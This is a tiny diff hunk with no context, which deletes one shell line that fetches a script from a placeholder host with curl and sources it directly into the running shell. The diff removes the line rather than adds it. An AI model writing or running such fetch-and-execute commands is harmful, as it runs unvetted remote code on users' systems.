@@ -1,1 +1,0 @@
-source <(curl -s https://host.example/x)
